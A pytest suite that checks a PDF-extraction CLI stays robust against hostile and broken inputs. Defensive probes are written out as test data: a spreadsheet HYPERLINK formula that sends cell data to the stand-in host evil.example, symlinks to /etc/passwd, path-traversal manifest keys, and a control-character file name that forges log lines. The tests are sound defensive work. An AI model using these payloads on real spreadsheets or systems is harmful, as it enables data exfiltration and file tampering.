"""No file, folder or crash stops or corrupts a run (issue 12): the real command line, each
probe from the hostile test, asserting on what ends up in OUT_DIR."""

from __future__ import annotations

import contextlib
import csv
import json
import os
import random
import signal
import sqlite3
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from extractor import PIPELINE_VERSION
from extractor.batch.lock import output_lock
from extractor.batch.testing import read_log, write_fake_input
from extractor.errors import ExitCode

FAKE = "extractor.batch.testing:fake_task"
EXTRACTOR = [sys.executable, "-m", "extractor.cli"]


def cli(*args: object, timeout: float = 120, umask: int | None = None, **env: str):
    """The real command, in a process of its own, with the fake task."""
    environment = {**os.environ, "EXTRACTOR_FAKE_TASK": FAKE, **env}
    preexec = (lambda: os.umask(umask)) if umask is not None else None
    return subprocess.run(
        [*EXTRACTOR, *(a if isinstance(a, bytes) else str(a) for a in args)],
        env=environment,
        capture_output=True,
        text=True,
        errors="backslashreplace",
        timeout=timeout,
        preexec_fn=preexec,
    )


def rows(out: Path) -> dict[str, tuple]:
    with sqlite3.connect(out / "manifest.sqlite") as db:
        query = "SELECT path, key, status, sha256, raw_path FROM files"
        return {p: (k, s, h, r) for p, k, s, h, r in db.execute(query)}


def table(path: Path, dialect: str = "utf8") -> list[dict[str, str]]:
    encoding, sep = ("utf-8-sig", ";") if dialect == "excel-de" else ("utf-8", ",")
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.DictReader(fh, delimiter=sep))


def alive(pid: int) -> bool:
    """True while the process runs (a zombie no init has reaped yet counts as gone)."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in ("Z", "X")


def wait_until(condition, limit: float = 30.0) -> bool:
    """Poll `condition` (a bound for a hung test, not a timing assertion)."""
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.05)
    return condition()


# ---- F1: a file name that is not UTF-8 ---------------------------------------------------------


def test_file_name_not_utf8_is_processed_and_the_run_goes_on(tmp_path: Path):
    scan, out = tmp_path / "scan", tmp_path / "out"
    scan.mkdir()
    raw = os.fsencode(scan) + b"/caf\xe9.pdf"
    write_fake_input(Path(os.fsdecode(raw)))
    write_fake_input(scan / "z-after.pdf")

    result = cli("batch", scan, "-o", out, "--workers", 1)
    assert result.returncode == ExitCode.OK, result.stderr
    assert "Traceback" not in result.stderr
    manifest = rows(out)
    assert sorted(manifest) == ["caf\\xe9.pdf", "z-after.pdf"]
    key, status, _sha, raw_path = manifest["caf\\xe9.pdf"]
    assert (key, status, raw_path) == ("caf\ufffd.pdf", "ok", b"caf\xe9.pdf")
    record = json.loads((out / "records" / "caf\ufffd.pdf.json").read_text("utf-8"))
    assert record["source"]["file"] == "caf\\xe9.pdf"
    assert (out / "text" / "caf\ufffd.pdf.txt").read_text("utf-8") == "Text von caf\\xe9.pdf"
    assert [r["file"] for r in table(out / "agreements.csv")] == ["caf\\xe9.pdf", "z-after.pdf"]

    again = cli("batch", scan, "-o", out)
    assert again.returncode == ExitCode.OK and "skipped       2" in again.stdout


# ---- F2: a name whose key would pass NAME_MAX --------------------------------------------------


def test_long_file_name_keeps_every_output_name_within_name_max(tmp_path: Path):
    scan, out = tmp_path / "scan", tmp_path / "out"
    long_names = ["a" * 246 + ".pdf", "ä" * 123 + "x.pdf"]  # 250 bytes each
    for name in long_names:
        write_fake_input(scan / name)
    write_fake_input(scan / "z.pdf")

    result = cli("batch", scan, "-o", out, "--workers", 1)
    assert result.returncode == ExitCode.OK, result.stderr
    keys = {path: key for path, (key, *_rest) in rows(out).items()}
    assert sorted(keys) == sorted([*long_names, "z.pdf"])
    for name in long_names:
        assert len(keys[name].encode()) <= 200 and keys[name] != name
        assert (out / "records" / f"{keys[name]}.json").is_file()
    for path in out.rglob("*"):
        assert len(path.name.encode()) <= 255
    assert len({keys[n] for n in long_names}) == 2
    assert cli("batch", scan, "-o", out).stdout.count("processed     0") == 1


# ---- F3: FIFOs and devices ---------------------------------------------------------------------


def test_fifo_and_device_fail_alone_without_blocking(tmp_path: Path):
    scan, out = tmp_path / "scan", tmp_path / "out"
    write_fake_input(scan / "a.pdf")
    os.mkfifo(scan / "pipe.pdf")
    result = cli("batch", scan, "-o", out, "--timeout", 2, timeout=60)
    assert result.returncode == ExitCode.FAILED, result.stderr
    errors = {r["file"]: r["error"] for r in table(out / "errors.csv")}
    assert errors == {
        "pipe.pdf": "pipe.pdf: is a named pipe (FIFO), not a regular file; it is not read"
    }
    assert rows(out)["a.pdf"][1] == "ok"

    extracted = tmp_path / "extracted"
    result = cli(
        "extract", "/dev/zero", scan / "a.pdf", "-o", extracted, "--timeout", 2, timeout=60
    )
    assert result.returncode == ExitCode.FAILED, result.stderr
    errors = {r["file"]: r["error"] for r in table(extracted / "errors.csv")}
    assert errors == {"zero": "zero: is a character device, not a regular file; it is not read"}
    assert [r["status"] for r in table(extracted / "agreements.csv")] == ["ok", "failed"]


# ---- F5: a damaged, old or unusable manifest ---------------------------------------------------


def _two_files(tmp_path: Path) -> tuple[Path, Path]:
    scan, out = tmp_path / "scan", tmp_path / "out"
    write_fake_input(scan / "a.pdf")
    write_fake_input(scan / "sub" / "b.pdf", status="needs_review")
    return scan, out


def test_damaged_manifest_is_moved_aside_and_rebuilt(tmp_path: Path):
    scan, out = _two_files(tmp_path)
    assert cli("batch", scan, "-o", out).returncode == ExitCode.NEEDS_REVIEW
    keys_before = {p: r[0] for p, r in rows(out).items()}
    (out / "manifest.sqlite").write_bytes(b"this is not a database, a disk error ate it" * 100)
    (scan / "a.pdf").unlink()  # gone meanwhile: the rebuilt manifest knows it was there

    result = cli("batch", scan, "-o", out)
    # b.pdf's record says this pipeline version wrote it from these very bytes: not read again.
    assert result.returncode == ExitCode.OK, result.stderr
    assert "Traceback" not in result.stderr
    assert "could not be used (file is not a database)" in result.stderr
    assert "is rebuilt from the records on disk" in result.stderr
    aside = [p.name for p in out.glob("manifest.sqlite.broken-*Z")]
    assert len(aside) == 1
    assert "disappeared   1" in result.stdout and "processed     0" in result.stdout
    assert {p: r[0] for p, r in rows(out).items()} == {"sub/b.pdf": keys_before["sub/b.pdf"]}
    assert [r["file"] for r in table(out / "agreements.csv")] == ["sub/b.pdf"]
    assert not (out / "records" / "a.pdf.json").exists()


def test_a_rebuilt_manifest_reads_again_only_files_changed_or_written_by_another_version(
    tmp_path: Path,
):
    scan, out = _two_files(tmp_path)
    write_fake_input(scan / "c.pdf")
    assert cli("batch", scan, "-o", out).returncode == ExitCode.NEEDS_REVIEW
    write_fake_input(scan / "a.pdf", budget=999)  # changed since its record was written
    record = out / "records" / "c.pdf.json"
    data = json.loads(record.read_text("utf-8"))
    del data["source"]["pipeline_version"]  # as a record before schema 1.3 was written
    record.write_text(json.dumps(data), "utf-8")
    (out / "manifest.sqlite").write_bytes(b"not a database" * 100)

    result = cli("batch", scan, "-o", out)
    assert "processed     2" in result.stdout, result.stdout
    assert {r["file"] for r in table(out / "agreements.csv")} == {"a.pdf", "c.pdf", "sub/b.pdf"}
    budgets = {r["file"]: r["budget_amount"] for r in table(out / "agreements.csv")}
    assert float(budgets["a.pdf"]) == 999
    assert json.loads(record.read_text("utf-8"))["source"]["pipeline_version"] == PIPELINE_VERSION


def _old_manifest(out: Path, columns: str, version: str | None) -> None:
    out.mkdir(parents=True, exist_ok=True)
    with sqlite3.connect(out / "manifest.sqlite") as db:
        db.execute(f"CREATE TABLE files ({columns})")
        if version is not None:
            db.execute("CREATE TABLE meta (name TEXT PRIMARY KEY, value TEXT NOT NULL)")
            db.execute("INSERT INTO meta VALUES ('schema_version', ?)", (version,))


V1_COLUMNS = (
    "path TEXT PRIMARY KEY, key TEXT NOT NULL, size INTEGER NOT NULL, mtime_ns INTEGER NOT NULL,"
    " sha256 TEXT NOT NULL, pipeline_version TEXT NOT NULL, status TEXT NOT NULL, error TEXT,"
    " pages INTEGER NOT NULL DEFAULT 0, seconds REAL, timings TEXT, processed_at TEXT NOT NULL"
)


def test_manifest_of_schema_1_is_migrated_and_keeps_its_rows(tmp_path: Path):
    scan, out = _two_files(tmp_path)
    assert cli("batch", scan, "-o", out).returncode == ExitCode.NEEDS_REVIEW
    columns = [c.split()[0] for c in V1_COLUMNS.split(",")]
    with sqlite3.connect(out / "manifest.sqlite") as db:
        saved = db.execute(f"SELECT {', '.join(columns)} FROM files").fetchall()
    for path in out.glob("manifest.sqlite*"):
        path.unlink()
    _old_manifest(out, V1_COLUMNS, "1")  # the same rows, as version 1 wrote them
    with sqlite3.connect(out / "manifest.sqlite") as db:
        db.executemany(f"INSERT INTO files VALUES ({', '.join('?' * len(columns))})", saved)
    result = cli("batch", scan, "-o", out)
    assert result.returncode == ExitCode.OK, result.stderr
    assert "processed     0" in result.stdout and "skipped       2" in result.stdout
    with sqlite3.connect(out / "manifest.sqlite") as db:
        assert db.execute("SELECT value FROM meta").fetchone() == ("2",)


def test_manifest_lacking_a_column_is_moved_aside(tmp_path: Path):
    scan, out = _two_files(tmp_path)
    _old_manifest(out, V1_COLUMNS.replace(", timings TEXT", ""), "1")
    result = cli("batch", scan, "-o", out)
    assert result.returncode == ExitCode.NEEDS_REVIEW, result.stderr
    assert "lacks the column(s) timings" in result.stderr
    assert sorted(rows(out)) == ["a.pdf", "sub/b.pdf"]


def test_unusable_manifest_is_one_sentence_and_exit_3(tmp_path: Path):
    scan, out = _two_files(tmp_path)
    (out / "manifest.sqlite").mkdir(parents=True)  # SQLite cannot open a folder
    result = cli("batch", scan, "-o", out)
    assert result.returncode == ExitCode.USAGE
    assert result.stderr.strip().splitlines()[-1].startswith("error: the manifest ")
    assert "Traceback" not in result.stderr

    newer = tmp_path / "newer"
    _old_manifest(newer, V1_COLUMNS + ", raw_path BLOB", "99")
    result = cli("batch", scan, "-o", newer)
    assert result.returncode == ExitCode.USAGE
    assert "written by a newer version of this tool" in result.stderr


# ---- F6: CSV formula injection -----------------------------------------------------------------


@pytest.mark.parametrize("dialect", ["utf8", "excel-de"])
def test_csv_cells_that_spreadsheets_would_run_are_neutralised(tmp_path: Path, dialect: str):
    scan, out = tmp_path / "scan", tmp_path / "out"
    formula = '=HYPERLINK("http://evil.example/?d="&A2;"x")'
    write_fake_input(scan / "a.pdf", region=formula)
    write_fake_input(scan / "@b.pdf", region="+49 Landkreis")
    write_fake_input(scan / "-c.pdf", region="\tLandkreis")

    result = cli("batch", scan, "-o", out, "--csv-dialect", dialect)
    assert result.returncode == ExitCode.OK, result.stderr
    agreements = {r["document"]: r for r in table(out / "agreements.csv", dialect)}
    assert agreements["a.pdf"]["region_name"] == "'" + formula
    assert agreements["'@b.pdf"]["region_name"] == "'+49 Landkreis"
    assert agreements["'@b.pdf"]["file"] == "'@b.pdf"
    assert agreements["'-c.pdf"]["region_name"] == "'\tLandkreis"
    assert agreements["a.pdf"]["budget_amount"] == (
        "12345,50" if dialect == "excel-de" else "12345.50"
    )
    projects = table(out / "projects.csv", dialect)
    assert {r["region_name"] for r in projects} >= {"'" + formula}
    # The JSON outputs keep every value as read.
    jsonl = [json.loads(line) for line in (out / "agreements.jsonl").read_text().splitlines()]
    assert formula in [r["parties"]["region"]["name"] for r in jsonl]


# ---- F7: `extract` into a batch's folder -------------------------------------------------------


def test_batch_redoes_a_file_whose_record_is_another_documents(tmp_path: Path):
    scan, out = _two_files(tmp_path)
    assert cli("batch", scan, "-o", out).returncode == ExitCode.NEEDS_REVIEW
    other = write_fake_input(tmp_path / "elsewhere" / "a.pdf", region="Stadt Kassel")

    refused = cli("extract", other, "-o", out)
    assert refused.returncode == ExitCode.USAGE
    assert "is the output folder of `extractor batch`" in refused.stderr
    assert (
        json.loads((out / "records" / "a.pdf.json").read_text())["parties"]["region"]["name"]
        == "Landkreis Kassel"
    )

    # The same replacement by other means (an older version's extract, a copy by hand).
    elsewhere = tmp_path / "elsewhere-out"
    assert cli("extract", other, "-o", elsewhere).returncode == ExitCode.OK
    (out / "records" / "a.pdf.json").write_bytes(
        (elsewhere / "records" / "a.pdf.json").read_bytes()
    )
    result = cli("batch", scan, "-o", out)
    assert "processed     1" in result.stdout and "skipped       1" in result.stdout
    record = json.loads((out / "records" / "a.pdf.json").read_text())
    assert record["parties"]["region"]["name"] == "Landkreis Kassel"
    assert record["source"]["sha256"] == rows(out)["a.pdf"][2]


# ---- a crash, and a second run -----------------------------------------------------------------


def test_a_crash_has_its_own_exit_code_and_a_log(tmp_path: Path):
    scan, out = _two_files(tmp_path)
    out.mkdir()
    result = cli("batch", scan, "-o", out, EXTRACTOR_FAKE_TASK="extractor.batch.testing:nothing")
    assert result.returncode == ExitCode.CRASH == 5
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith("error: internal error (AttributeError: ")
    log = Path(last.rsplit("the details are in ", 1)[1])
    assert log.parent == out and "Traceback" in log.read_text()
    assert "Traceback" not in result.stderr


def test_second_run_on_the_same_output_folder_is_refused(tmp_path: Path):
    scan, out = _two_files(tmp_path)
    out.mkdir()
    with output_lock(out):
        result = cli("batch", scan, "-o", out)
        extract = cli("extract", scan, "-o", tmp_path / "out", "--workers", 1)
    assert result.returncode == extract.returncode == ExitCode.LOCKED == 6
    assert f"is being written by another extractor run (process {os.getpid()} on " in (
        result.stderr
    )
    assert not (out / "records").exists()
    assert cli("batch", scan, "-o", out).returncode == ExitCode.NEEDS_REVIEW  # lock released


# ---- child processes and temporaries die with their worker and their run -----------------------


def _hanging_input(
    scan: Path, tmp_path: Path, name: str = "hang.pdf", **spec: object
) -> dict[str, Path]:
    files = {k: tmp_path / f"{k}.txt" for k in ("pid_file", "child_pid_file", "temp_file_log")}
    write_fake_input(scan / name, behaviour="hang", **{k: str(v) for k, v in files.items()}, **spec)
    return files


def _handwriting_engine(log: Path) -> int:
    """The handwriting engine's process id, as the fake task that read a spot logged it."""
    [engine] = {int(line.split()[1]) for line in read_log(log, "engine")}
    return engine


def _pid(path: Path) -> int:
    return int(path.read_text())


def _spawn(*args: object) -> subprocess.Popen:
    env = {**os.environ, "EXTRACTOR_FAKE_TASK": FAKE}
    return subprocess.Popen(
        [*EXTRACTOR, *map(str, args)],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,  # a process group of its own, as a terminal would give it
    )


def test_timeout_kills_the_workers_child_and_removes_its_page_images(tmp_path: Path):
    scan, out = tmp_path / "scan", tmp_path / "out"
    hang = _hanging_input(scan, tmp_path)
    write_fake_input(scan / "ok.pdf")
    result = cli("batch", scan, "-o", out, "--timeout", 2, "--workers", 1, timeout=60)
    assert result.returncode == ExitCode.FAILED, result.stderr
    assert rows(out)["hang.pdf"][1] == "failed" and rows(out)["ok.pdf"][1] == "ok"
    page_image = Path(hang["temp_file_log"].read_text())
    assert page_image.parent.parent == out / ".extractor-work"  # the run's own folder
    assert not page_image.exists() and not (out / ".extractor-work").exists()
    assert wait_until(lambda: not alive(_pid(hang["child_pid_file"])))
    assert not alive(_pid(hang["pid_file"]))


@pytest.mark.parametrize("how", ["SIGTERM", "Ctrl-C"])
def test_stopping_the_run_kills_workers_and_their_children(tmp_path: Path, how: str):
    scan, out, log = tmp_path / "scan", tmp_path / "out", tmp_path / "calls.log"
    hang = _hanging_input(scan, tmp_path, handwriting="10.4.23", log=str(log))
    proc = _spawn("batch", scan, "-o", out, "--timeout", 600, "--workers", 1)
    try:
        assert wait_until(lambda: hang["child_pid_file"].exists() or proc.poll() is not None)
        if how == "SIGTERM":
            proc.send_signal(signal.SIGTERM)  # to the coordinator alone, as `kill` does
        else:
            os.killpg(proc.pid, signal.SIGINT)  # to the terminal's process group
        _stdout, stderr = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    assert proc.returncode == ExitCode.INTERRUPTED, stderr
    assert wait_until(lambda: not alive(_pid(hang["child_pid_file"])))
    assert not alive(_pid(hang["pid_file"]))
    assert wait_until(lambda: not alive(_handwriting_engine(log)))  # the batch's, shared
    assert not (out / ".extractor-work").exists()


def test_killed_coordinator_takes_its_workers_and_their_children_along(tmp_path: Path):
    scan, out, log = tmp_path / "scan", tmp_path / "out", tmp_path / "calls.log"
    hang = _hanging_input(scan, tmp_path, handwriting="10.4.23", log=str(log))
    proc = _spawn("batch", scan, "-o", out, "--timeout", 600, "--workers", 1)
    try:
        assert wait_until(lambda: hang["temp_file_log"].exists() or proc.poll() is not None)
        assert wait_until(lambda: hang["child_pid_file"].exists() or proc.poll() is not None)
        os.kill(proc.pid, signal.SIGKILL)  # the coordinator alone
        proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    assert wait_until(lambda: not alive(_pid(hang["pid_file"])))
    assert wait_until(lambda: not alive(_pid(hang["child_pid_file"])))
    assert wait_until(lambda: not alive(_handwriting_engine(log)))  # the batch's, shared
    left = Path(hang["temp_file_log"].read_text())
    assert left.exists()  # nobody was left to remove it ...

    write_fake_input(scan / "hang.pdf")  # ... until the next run, which sweeps it
    result = cli("batch", scan, "-o", out, timeout=60)
    assert result.returncode == ExitCode.OK, result.stderr
    assert not left.exists() and not (out / ".extractor-work").exists()


# ---- the tables stay in step -------------------------------------------------------------------


def test_sigterm_while_the_tables_are_written_leaves_them_in_step(tmp_path: Path, monkeypatch):
    from extractor.batch.testing import fake_task
    from extractor.export import tables
    from extractor.pipeline import PipelineOptions

    first = write_fake_input(tmp_path / "a.pdf")
    second = write_fake_input(tmp_path / "b.pdf", region="Stadt Kassel")
    records = {p.name: fake_task(p, p.name, PipelineOptions()).record for p in (first, second)}
    out = tmp_path / "out"
    out.mkdir()
    tables.write_tables(out, {"a.pdf": records["a.pdf"]})

    def stop(signum: int, frame: object) -> None:
        raise KeyboardInterrupt

    previous = signal.signal(signal.SIGTERM, stop)
    try:
        # Stopped while a table is written: none of the five is replaced.
        real_write = tables._write_csv

        def write_then_stop(staging, path, *args):
            if path.name == "projects.csv":
                os.kill(os.getpid(), signal.SIGTERM)
            return real_write(staging, path, *args)

        monkeypatch.setattr(tables, "_write_csv", write_then_stop)
        with pytest.raises(KeyboardInterrupt):
            tables.write_tables(out, records)
        assert len((out / "agreements.jsonl").read_text().splitlines()) == 1
        assert [r["document"] for r in table(out / "agreements.csv")] == ["a.pdf"]
        assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []

        # Stopped while the finished tables are renamed into place: all five are replaced.
        monkeypatch.setattr(tables, "_write_csv", real_write)
        real_replace = os.replace
        calls = []

        def replace_then_stop(source, target):
            calls.append(Path(target).name)
            if len(calls) == 1:
                os.kill(os.getpid(), signal.SIGTERM)
            return real_replace(source, target)

        monkeypatch.setattr(os, "replace", replace_then_stop)
        with pytest.raises(KeyboardInterrupt):
            tables.write_tables(out, records)
    finally:
        signal.signal(signal.SIGTERM, previous)
    assert len(calls) == 5
    assert len((out / "agreements.jsonl").read_text().splitlines()) == 2
    assert [r["document"] for r in table(out / "agreements.csv")] == ["a.pdf", "b.pdf"]
    assert len(table(out / "projects.csv")) == 2


# ---- folders that cannot be read, symlinks, names, lost outputs, edited manifests, umask --------


def test_unreadable_folder_or_scan_dir_deletes_no_record(tmp_path: Path, monkeypatch):
    from extractor.batch import BatchOptions, discover, run_batch
    from extractor.batch.testing import fake_task

    scan, out = _two_files(tmp_path)
    options = BatchOptions(workers=1, timeout=5)
    assert run_batch(scan, out, options, fake_task).processed == 2
    real_walk = os.walk

    def walk_without_sub(top, onerror=None, **kw):  # what a folder without permission gives
        for dirpath, dirnames, filenames in real_walk(top, onerror=onerror, **kw):
            if "sub" in dirnames:
                dirnames.remove("sub")
                onerror(PermissionError(13, "Permission denied", str(Path(dirpath) / "sub")))
            yield dirpath, dirnames, filenames

    monkeypatch.setattr(discover.os, "walk", walk_without_sub)
    summary = run_batch(scan, out, options, fake_task)
    assert (summary.unreadable, summary.disappeared, summary.skipped) == (["sub"], [], 1)
    assert summary.exit_code() == ExitCode.FAILED
    assert "unreadable    1 folder(s)" in "\n".join(summary.lines())
    assert sorted(rows(out)) == ["a.pdf", "sub/b.pdf"]
    assert (out / "records" / "sub__b.pdf.json").exists()
    monkeypatch.undo()

    scan.rename(tmp_path / "moved")  # gone during the run
    summary = run_batch(scan, out, options, fake_task)
    assert (summary.unreadable, summary.disappeared) == ([""], [])
    assert summary.exit_code() == ExitCode.FAILED
    assert sorted(rows(out)) == ["a.pdf", "sub/b.pdf"]
    assert len(table(out / "agreements.csv")) == 2

    scan.mkdir()  # an unmounted share: its empty mount point, through the command line
    result = cli("batch", scan, "-o", out)
    assert result.returncode == ExitCode.FAILED
    assert "the scanned folder holds no input file, while the manifest lists 2" in result.stderr
    assert "disappeared   0" in result.stdout and sorted(rows(out)) == ["a.pdf", "sub/b.pdf"]
    assert len(table(out / "agreements.csv")) == 2


def test_symlinks_leading_out_of_scan_dir_are_not_followed(tmp_path: Path):
    scan, out, outside = tmp_path / "scan", tmp_path / "out", tmp_path / "outside"
    write_fake_input(scan / "real" / "a.pdf")
    write_fake_input(outside / "secret.pdf", region="not for this batch")
    (scan / "passwd.pdf").symlink_to("/etc/passwd")
    (scan / "secret.pdf").symlink_to(outside / "secret.pdf")
    (scan / "elsewhere").symlink_to(outside, target_is_directory=True)
    (scan / "inside.pdf").symlink_to(scan / "real" / "a.pdf")

    result = cli("batch", scan, "-o", out)
    assert result.returncode == ExitCode.OK, result.stderr
    assert sorted(rows(out)) == ["inside.pdf", "real/a.pdf"]
    assert "not followed  3 symlink(s) leading out of the scanned folder" in result.stdout
    for name in ("elsewhere", "passwd.pdf", "secret.pdf"):
        assert f"not followed: {name} is a symlink leading out" in result.stderr
    assert "root:" not in (out / "errors.csv").read_text()


def test_control_characters_in_a_file_name_cannot_forge_log_lines(tmp_path: Path):
    scan, out = tmp_path / "scan", tmp_path / "out"
    write_fake_input(scan / "a\n[2/2] forged.pdf: ok, 1 page(s), 0.0 s\x1b[2K.pdf")
    result = cli("batch", scan, "-o", out)
    assert result.returncode == ExitCode.OK, result.stderr
    lines = result.stderr.splitlines()
    assert not [line for line in lines if line.startswith("[2/2]")]
    assert "[1/1] a\\n[2/2] forged.pdf: ok, 1 page(s), 0.0 s\\x1b[2K.pdf: ok" in result.stderr
    (key,) = [key for key, *_ in rows(out).values()]
    assert "\n" not in key and "\x1b" not in key


def test_deleted_text_file_is_written_again(tmp_path: Path):
    scan, out = _two_files(tmp_path)
    assert cli("batch", scan, "-o", out).returncode == ExitCode.NEEDS_REVIEW
    (out / "text" / "a.pdf.txt").unlink()
    result = cli("batch", scan, "-o", out)
    assert "processed     1" in result.stdout and "skipped       1" in result.stdout
    assert (out / "text" / "a.pdf.txt").read_text() == "Text von a.pdf"


def test_a_manifest_key_is_never_used_as_a_path_outside_the_output_folders(tmp_path: Path):
    scan, out = _two_files(tmp_path)
    assert cli("batch", scan, "-o", out).returncode == ExitCode.NEEDS_REVIEW
    victim = out / "victim.json"  # records/../victim.json
    victim.write_text("not the tool's")
    with sqlite3.connect(out / "manifest.sqlite") as db:
        db.execute("UPDATE files SET key = '../victim' WHERE path = 'a.pdf'")
        db.execute("UPDATE files SET key = '/etc/passwd' WHERE path = 'sub/b.pdf'")
    (scan / "a.pdf").unlink()  # a disappeared file's outputs are deleted by its key

    result = cli("batch", scan, "-o", out)
    assert result.returncode == ExitCode.NEEDS_REVIEW, result.stderr
    assert victim.read_text() == "not the tool's"
    assert "the manifest's key '../victim' is unusable" in result.stderr
    assert {p: r[0] for p, r in rows(out).items()} == {"sub/b.pdf": "sub__b.pdf"}


@pytest.mark.parametrize(("umask", "mode"), [(0o027, 0o640), (0o002, 0o664)])
def test_outputs_follow_the_umask(tmp_path: Path, umask: int, mode: int):
    scan, out = _two_files(tmp_path)
    assert cli("batch", scan, "-o", out, umask=umask).returncode == ExitCode.NEEDS_REVIEW
    for path in [out / "records" / "a.pdf.json", out / "text" / "a.pdf.txt", out / "errors.csv",
                 out / "agreements.csv", out / "agreements.jsonl"]:  # fmt: skip
        assert stat.S_IMODE(path.stat().st_mode) == mode, path.name


# ---- fault injection ---------------------------------------------------------------------------


def _pids(folder: Path) -> set[int]:
    found = set()
    for path in folder.glob("*.pid"):
        with contextlib.suppress(ValueError, OSError):
            found.add(int(path.read_text()))
    return found


def test_random_kills_of_coordinator_worker_and_tesseract_leave_everything_in_agreement(
    tmp_path: Path,
):
    rng = random.Random(12)
    scan, out, pids = tmp_path / "scan", tmp_path / "out", tmp_path / "pids"
    pids.mkdir()
    names = [f"d{i % 3}/f{i:02}.pdf" for i in range(10)]
    for i, name in enumerate(names):
        write_fake_input(
            scan / name,
            sleep=0.4,
            pid_file=str(pids / f"worker{i}.pid"),
            child_pid_file=str(pids / f"child{i}.pid"),
            temp_file_log=str(pids / f"temp{i}.log"),
        )
    seen: set[int] = set()
    victims = []
    for _round in range(6):
        proc = _spawn("batch", scan, "-o", out, "--workers", 2, "--retry-failed")
        try:
            time.sleep(rng.uniform(0.2, 2.5))  # a random moment, not a timing assertion
            victim = rng.choice(["coordinator", "worker", "tesseract"])
            victims.append(victim)
            seen |= _pids(pids)
            if victim == "coordinator":
                os.kill(proc.pid, signal.SIGKILL)
            else:
                prefix = "worker" if victim == "worker" else "child"
                running = [pid for pid in _pids(pids) if alive(pid)]
                chosen = [p for p in pids.glob(f"{prefix}*.pid") if int(p.read_text()) in running]
                if chosen:
                    with contextlib.suppress(ProcessLookupError):
                        os.kill(int(rng.choice(chosen).read_text()), signal.SIGKILL)
            proc.communicate(timeout=120)
        finally:
            if proc.poll() is None:
                os.killpg(proc.pid, signal.SIGKILL)
        seen |= _pids(pids)
    assert set(victims) == {"coordinator", "worker", "tesseract"}

    final = cli("batch", scan, "-o", out, "--workers", 2, "--retry-failed", timeout=180)
    assert final.returncode == ExitCode.OK, final.stderr
    seen |= _pids(pids)
    assert wait_until(lambda: not [pid for pid in seen if alive(pid)])
    # Outputs, tables and manifest agree; no temporary is left anywhere.
    manifest = rows(out)
    assert sorted(manifest) == sorted(names)
    assert {status for _key, status, _sha, _raw in manifest.values()} == {"ok"}
    keys = sorted(key for key, *_ in manifest.values())
    assert sorted(p.stem for p in (out / "records").glob("*.json")) == keys
    assert sorted(p.stem for p in (out / "text").glob("*.txt")) == keys
    for key, _status, sha256, _raw in manifest.values():
        record = json.loads((out / "records" / f"{key}.json").read_text())
        assert record["source"]["sha256"] == sha256
    assert sorted(r["document"] for r in table(out / "agreements.csv")) == keys
    jsonl = (out / "agreements.jsonl").read_text().splitlines()
    assert sorted(json.loads(line)["source"]["file"] for line in jsonl) == sorted(names)
    assert not [p for p in out.rglob("*") if p.name.startswith(".extractor-tmp-")]
    assert not (out / ".extractor-work").exists()
    for log in pids.glob("temp*.log"):
        assert not Path(log.read_text()).exists()
